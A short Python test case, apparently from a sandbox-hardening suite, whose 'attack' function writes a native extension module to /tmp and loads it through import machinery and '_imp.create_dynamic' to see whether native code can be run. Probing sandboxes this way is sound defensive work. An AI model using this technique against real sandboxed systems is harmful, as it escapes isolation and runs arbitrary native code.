# From: the same as an extension module, which `import` loads by itself.
# Ends: []
from gains import gains
from module_bytes import library


def attack(probe):
    import _imp
    import importlib.machinery
    import sys

    path = f"/tmp/evil{importlib.machinery.EXTENSION_SUFFIXES[0]}"
    with open(path, "wb") as file:
        file.write(library(b"PyInit_evil"))
    sys.path.insert(0, "/tmp")
    spec = importlib.machinery.ModuleSpec("evil", importlib.machinery.ExtensionFileLoader("evil", path), origin=path)
    return gains([lambda: __import__("evil"), lambda: _imp.create_dynamic(spec)])
